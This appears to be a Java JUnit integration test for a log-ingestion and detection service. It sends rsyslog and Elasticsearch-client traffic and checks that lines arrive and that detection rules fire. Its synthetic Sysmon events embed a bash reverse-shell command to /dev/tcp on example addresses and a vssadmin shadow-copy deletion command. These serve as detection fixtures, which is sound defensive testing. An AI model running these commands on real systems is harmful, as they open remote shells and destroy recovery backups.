// SPDX-License-Identifier: Apache-2.0
package dev.shirube.trial;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Senders of other makers, as they are installed, before the product as people start it. What was
/// acknowledged can be found, each line once and soon; an attack among the lines is found without
/// anybody asking.
final class RealClientsTest {
  private static final int LINES = 300;
  private static final double REACH_SECONDS = 2;
  private static final String BULK = "Elasticsearch-compatible (_bulk)";

  @TempDir private static Path folder;

  private static int syslog;
  private static int syslogTls;
  private static int relpTls;
  private static int bulkTls;
  private static StationProcess station;
  private static Onlooker onlooker;

  @BeforeAll
  static void start() throws IOException, InterruptedException {
    syslog = StationProcess.free();
    syslogTls = StationProcess.free();
    relpTls = StationProcess.free();
    bulkTls = StationProcess.free();
    Path own = Files.createDirectories(folder.resolve("station"));
    station =
        new StationProcess(
            own,
            syslog,
            """
            syslog-tls-port: %d
            relp-tls-port: %d
            bulk-tls-port: %d
            """
                .formatted(syslogTls, relpTls, bulkTls));
    onlooker = new Onlooker(station);
    station.start();
    onlooker.awaitReady();
  }

  @AfterAll
  static void stop() throws InterruptedException {
    onlooker.close();
    station.stop();
  }

  private static String token() throws IOException {
    return Files.readString(station.data().sourceToken()).strip();
  }

  /// Goes on where the parts of rsyslog are there, and says so where they are not.
  private static void needs(String what, String... modules) throws IOException {
    List<String> missing = Rsyslog.missing(modules);
    if (!missing.isEmpty()) {
      System.out.printf("not proven: %s; this machine lacks %s%n", what, missing);
    }
    assumeTrue(missing.isEmpty());
  }

  /// Lines of a program of a host, and at their end a start of a program as Sysmon for Linux writes
  /// it: a shell that is connected to an address.
  private static List<String> lines(String host, String address) {
    List<String> lines = new ArrayList<>();
    Instant now = Instant.now().truncatedTo(ChronoUnit.MILLIS);
    for (int number = 0; number < LINES; number++) {
      lines.add("<13>1 %s %s trial 7 - - of %s number=%d=".formatted(now, host, host, number));
    }
    String event =
        """
        <Event><System><Provider Name="Linux-Sysmon"/><EventID>1</EventID><Level>4</Level>\
        <TimeCreated SystemTime="%1$s"/><EventRecordID>9</EventRecordID>\
        <Channel>Linux-Sysmon/Operational</Channel><Computer>%2$s</Computer></System><EventData>\
        <Data Name="ProcessId">101</Data><Data Name="Image">/bin/bash</Data>\
        <Data Name="CommandLine">bash -c "bash -i &gt;&amp; /dev/tcp/%3$s/443 0&gt;&amp;1"</Data>\
        <Data Name="User">www-data</Data></EventData></Event>\
        """
            .formatted(now, host, address);
    lines.add("<14>1 %s %s sysmon 77 - - %s".formatted(now, host, event));
    return lines;
  }

  private static Set<Integer> numbers(String answer) {
    Set<Integer> numbers = new TreeSet<>();
    String mark = "number=";
    for (int at = answer.indexOf(mark); at >= 0; at = answer.indexOf(mark, at + 1)) {
      int from = at + mark.length();
      numbers.add(Integer.parseInt(answer.substring(from, answer.indexOf('=', from))));
    }
    return numbers;
  }

  /// Asserts that every line of a host is found, once, and tells how soon.
  ///
  /// @param acknowledged when the last of them was, as a time of {@link System#nanoTime}
  private static void assertFound(String what, String host, long acknowledged) throws Exception {
    String question = "\"of " + host + " number\" | head " + 2 * LINES;
    String answer = onlooker.awaitAnswer(question, seen -> numbers(seen).size() == LINES);
    double seconds = Math.max(0, System.nanoTime() - acknowledged) / 1e9;
    assertThat(answer.lines().filter(line -> line.startsWith("{\"event\"")))
        .as("each line once")
        .hasSize(LINES);
    System.out.printf(
        "proven: %s: %d lines found, the last %.2f s after it was acknowledged (reach: %.0f s)%n",
        what, LINES, seconds, REACH_SECONDS);
  }

  /// Waits for a finding of a rule on a host.
  private static void assertFinding(String title, String host) throws Exception {
    String found =
        onlooker.awaitAnswer(
            "class=detection_finding device.hostname=" + host, seen -> seen.contains(title));
    assertThat(found).contains(title);
  }

  private static void send(String name, List<String> lines, String configuration, String door)
      throws Exception {
    String host = "host-" + name;
    long before = onlooker.durable(door);
    try (Rsyslog rsyslog = new Rsyslog(folder.resolve(name), configuration)) {
      rsyslog.feed(lines);
      long taken = onlooker.awaitDurable(door, before + lines.size());
      assertFound("rsyslog, " + door, host, taken);
      assertFinding("Reverse Shell Attempt", host);
    }
  }

  @Test
  void rsyslogOverTcp() throws Exception {
    needs("rsyslog's omfwd over TCP is taken in");
    String configuration = DoorsPage.block("port=\"5514\" protocol=\"tcp\"", 5514, syslog);
    send("tcp", lines("host-tcp", "198.51.100.11"), configuration, "syslog (TCP)");
  }

  @Test
  void rsyslogOverRelp() throws Exception {
    needs("rsyslog's omrelp is acknowledged", "omrelp");
    String configuration =
        DoorsPage.block(
            "type=\"omrelp\" target=\"shirube.example\" port=\"2514\"", 2514, station.relp());
    send("relp", lines("host-relp", "198.51.100.12"), configuration, "RELP");
  }

  @Test
  void rsyslogToElasticsearch() throws Exception {
    needs("rsyslog's omelasticsearch is taken in", "omelasticsearch", "mmrm1stspace");
    String configuration =
        DoorsPage.block("type=\"omelasticsearch\"", 9200, station.bulk()).replace("TOKEN", token());
    send("bulk", lines("host-bulk", "198.51.100.13"), configuration, BULK);
  }

  /// A configuration for TLS, with the certificate that the product made; its name is checked.
  private static String trusting(String configuration) {
    return configuration
        .replace("/etc/rsyslog.d/shirube.pem", certificate().toString())
        .replace(
            "StreamDriverPermittedPeers=\"127.0.0.1\"", "StreamDriverPermittedPeers=\"localhost\"")
        .replace("permittedPeer=[\"127.0.0.1\"]", "permittedPeer=[\"localhost\"]");
  }

  private static Path certificate() {
    return station.data().tls().resolve("certificate.pem");
  }

  @ParameterizedTest
  @ValueSource(strings = {"gtls", "ossl"})
  void rsyslogOverTls(String driver) throws Exception {
    needs("rsyslog's omfwd over TLS by " + driver + " is taken in", "lmnsd_" + driver);
    String configuration =
        trusting(DoorsPage.block("StreamDriver=\"gtls\"", 6514, syslogTls))
            .replace("\"gtls\"", "\"" + driver + "\"");
    List<String> lines = lines("host-" + driver, "198.51.100.14");
    send(driver, lines, configuration, "syslog (TLS)");
  }

  @Test
  void rsyslogOverRelpAndTls() throws Exception {
    needs("rsyslog's omrelp over TLS is acknowledged", "omrelp");
    String configuration = trusting(DoorsPage.block("tls=\"on\"", 2515, relpTls));
    send("relp-tls", lines("host-relp-tls", "198.51.100.15"), configuration, "RELP (TLS)");
  }

  /// Documents as Winlogbeat 8 makes them; the last starts a program that removes shadow copies.
  private static String documents(String host) {
    StringBuilder documents = new StringBuilder();
    Instant now = Instant.now().truncatedTo(ChronoUnit.MILLIS);
    for (int number = 0; number <= LINES; number++) {
      String command =
          number < LINES
              ? "notepad.exe of " + host + " number=" + number + "="
              : "vssadmin.exe Delete Shadows /All /Quiet";
      documents.append(
          """
          {"@timestamp":"%1$s","agent":{"type":"winlogbeat","version":"8.15.0","name":"%2$s"},\
          "ecs":{"version":"8.0.0"},"event":{"code":"1","kind":"event",\
          "provider":"Microsoft-Windows-Sysmon","created":"%1$s"},"host":{"name":"%2$s"},\
          "winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":"1",\
          "provider_name":"Microsoft-Windows-Sysmon","computer_name":"%2$s","record_id":%3$d,\
          "event_data":{"UtcTime":"%4$s","ProcessId":"%3$d","CommandLine":"%5$s",\
          "Image":"C:\\\\Windows\\\\System32\\\\cmd.exe","User":"EXAMPLE\\\\tanaka"}}}
          """
              .formatted(
                  now, host, number, now.toString().replace('T', ' ').replace("Z", ""), command));
    }
    return documents.toString();
  }

  @Test
  void elasticsearchsOwnClient() throws Exception {
    documentsAreTaken("host-js", station.door());
  }

  @Test
  void elasticsearchsOwnClientOverTls() throws Exception {
    documentsAreTaken("host-tls-js", "https://127.0.0.1:" + bulkTls, certificate().toString());
  }

  private static void documentsAreTaken(String host, String door, String... trusted)
      throws Exception {
    String missing = ElasticsearchClient.missing();
    if (!missing.isEmpty()) {
      System.out.println("not proven: Elasticsearch's own client is taken in; " + missing);
    }
    assumeTrue(missing.isEmpty());
    Path file = Files.writeString(folder.resolve(host + ".ndjson"), documents(host));
    List<String> said = ElasticsearchClient.send(door, token(), file, trusted);
    long taken = System.nanoTime();
    assertThat(said).contains("acknowledged " + (LINES + 1) + " failed 0");
    assertFound("elasticsearch-js " + ElasticsearchClient.VERSION + ", " + host, host, taken);
    assertFinding("Suspicious Removal of Backups and Recovery Options", host);
    assertThat(
            onlooker.hunt("source=windows.sysmon class=process_activity device.hostname=" + host))
        .contains("vssadmin");
  }

  /// The configurations that docs/reference/doors.md tells people to copy, so that tests copy them
  /// too.
  private static final class DoorsPage {
    private static final String FENCE = "```";

    private DoorsPage() {}

    /// The one block of the page in which a text stands, for a server on this machine.
    ///
    /// @param port as the page writes it
    /// @param now the port to write in its place
    static String block(String within, int port, int now) throws IOException {
      Path root = Path.of(System.getProperty("shirube.root", ".."));
      String page = Files.readString(root.resolve("docs/reference/doors.md"));
      List<String> found = new ArrayList<>();
      int at = page.indexOf(FENCE);
      while (at >= 0) {
        int begin = page.indexOf('\n', at) + 1;
        int end = page.indexOf(FENCE, begin);
        String block = page.substring(begin, end);
        if (block.contains(within)) {
          found.add(block);
        }
        at = page.indexOf(FENCE, end + FENCE.length());
      }
      if (found.size() != 1) {
        throw new AssertionError(found.size() + " blocks of doors.md have " + within);
      }
      String quoted = "\"" + port + "\"";
      String block = found.getFirst();
      if (!block.contains(quoted) || !block.contains("shirube.example")) {
        throw new AssertionError("no " + quoted + " or no server in " + block);
      }
      return block.replace("shirube.example", "127.0.0.1").replace(quoted, "\"" + now + "\"");
    }
  }
}
